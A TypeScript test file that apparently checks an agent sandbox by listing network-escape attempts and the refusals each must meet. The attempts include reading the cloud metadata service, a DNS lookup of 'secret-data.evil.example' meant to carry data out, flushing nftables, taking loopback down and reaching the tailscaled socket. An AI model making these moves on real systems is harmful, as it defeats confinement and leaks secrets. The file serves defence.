// SPDX-License-Identifier: Apache-2.0
import { labAddresses } from "../../../lab/network/addresses.ts";
import { attempt, command, kernelCall, type Attempt } from "./attempt.ts";

const node = "/opt/office-claws/bin/node";
/** nftables refuses with an ICMP error; the kernel tells IPv4 and IPv6 apart in how it reports that. */
const refused = { 4: "EHOSTUNREACH", 6: "EACCES" } as const;

function dial(name: string, target: string, how: string | RegExp): Attempt {
  const outcome = typeof how === "string" ? `${target} ${how}` : how;
  return attempt(name, [node, "{dial}", target], outcome);
}

/** Going anywhere but to the broker. */
export const networkAttempts: readonly Attempt[] = [
  dial("calls the control port at its own tailnet address", "tcp {tailnet4} 7440", refused[4]),
  dial("calls the control port at its own tailnet address over IPv6", "tcp {tailnet6} 7440", refused[6]),
  dial("calls the control port at 127.0.0.1", "tcp 127.0.0.1 7440", refused[4]),
  dial("calls the control port at ::1", "tcp ::1 7440", refused[6]),
  dial("calls the control port at its own public address", "tcp {public} 7440", refused[4]),
  dial("calls the control port by the node's name", "tcp ada.tailnet.lab.example 7440", /EAI_AGAIN|ENOTFOUND/),
  dial("calls the control port by the machine's name", "tcp ada 7440", /EAI_AGAIN|ENOTFOUND|EHOSTUNREACH/),
  dial("calls its own workload's port over the tailnet address", "tcp {tailnet4} 7442", refused[4]),
  dial("logs in to its own droplet over the tailnet address", "tcp {tailnet4} 22", refused[4]),
  dial("logs in to its own droplet over the tailnet's IPv6", "tcp {tailnet6} 22", refused[6]),
  dial("logs in to its own droplet on loopback", "tcp 127.0.0.1 22", refused[4]),
  dial("logs in to its own droplet at its public address", "tcp {public} 22", refused[4]),
  dial("logs in to another agent's droplet", "tcp 100.64.0.77 22", refused[4]),
  dial("calls the operator's tailnet address", "tcp {operator} 22", refused[4]),
  dial("calls another agent's tailnet address", "tcp 100.64.0.77 7440", refused[4]),
  dial("calls another agent's workload", "tcp 100.64.0.77 7442", refused[4]),
  dial("calls Tailscale's own address on the tailnet", "tcp 100.100.100.100 80", refused[4]),
  dial("asks the tailnet's name server", "udp 100.100.100.100 53", refused[4]),
  dial("reads the user-data at the metadata service", `tcp ${labAddresses.metadata} 80`, refused[4]),
  // This droplet has no IPv6 but the tailnet's; tests/stories/egress.test.ts tries one that has.
  dial("calls a metadata service's IPv6 address", "tcp fd00:ec2::254 80", "ENETUNREACH"),
  dial("calls an IPv4 address written as IPv6", "tcp ::ffff:169.254.169.254 80", refused[4]),
  dial("calls the provider's address directly", `tcp ${labAddresses.modelProvider} 443`, refused[4]),
  dial("calls the control plane", `tcp ${labAddresses.controlPlane} 443`, refused[4]),
  dial("calls DigitalOcean's API", `tcp ${labAddresses.digitalOcean} 443`, refused[4]),
  dial("calls any IPv6 address", `tcp ${labAddresses.internet6} 443`, "ENETUNREACH"),
  dial("calls its gateway's private address", "tcp 10.10.0.1 80", refused[4]),
  dial("sends a datagram to anybody", "udp 203.0.113.10 443", refused[4]),
  dial("sends a datagram over IPv6", `udp ${labAddresses.internet6} 443`, "ENETUNREACH"),
  dial("asks the configured name server over UDP", `udp ${labAddresses.dns} 53`, refused[4]),
  dial("asks the configured name server over TCP", `tcp ${labAddresses.dns} 53`, refused[4]),
  dial("resolves a name, which would carry data out", "tcp secret-data.evil.example 443", /EAI_AGAIN|ENOTFOUND/),
  dial("calls another port on loopback", "tcp 127.0.0.1 9229", refused[4]),
  kernelCall("pings", "ping 203.0.113.10", "EACCES"),
  kernelCall("opens a raw socket", "raw", "EPERM"),
  kernelCall("opens a raw IPv6 socket", "raw6", "EPERM"),
  kernelCall("opens a packet socket", "packet", "EPERM", "EAFNOSUPPORT"),
  kernelCall("listens on a privileged port", "listen 127.0.0.1 80", "EACCES"),
  kernelCall("takes the broker's port beside the daemon", "listen 127.0.0.1 7441", "EADDRINUSE"),
  kernelCall("takes the control port beside the daemon", "listen {tailnet4} 7440", "EADDRINUSE"),
  command("asks tailscaled for its status", "tailscale status", /permission denied|doesn't appear to be running/),
  command("asks tailscaled who somebody is", "tailscale whois {operator}", /permission denied/),
  command(
    "calls tailscaled's socket by itself",
    `${node} -e 'require("net").connect("/run/tailscale/tailscaled.sock").on("error", (error) => console.log(error.code))'`,
    "EACCES",
  ),
  command("lists the packet filter", "nft list ruleset 2>&1 | head -1", /Operation not permitted/),
  command("empties the packet filter", "nft flush ruleset 2>&1 | head -1", /Operation not permitted/),
  command(
    "fills its own list of ways out",
    "nft -f /usr/lib/office-claws/egress-none.nft 2>&1 | head -1",
    /Operation not permitted/,
  ),
  command("takes the loopback device down", "ip link set lo down 2>/dev/null && echo done; true", ""),
  command("adds an address", "ip address add 192.0.2.1/32 dev lo 2>/dev/null && echo done; true", ""),
  command("adds a route", "ip route add 192.0.2.0/24 dev lo 2>/dev/null && echo done; true", ""),
];
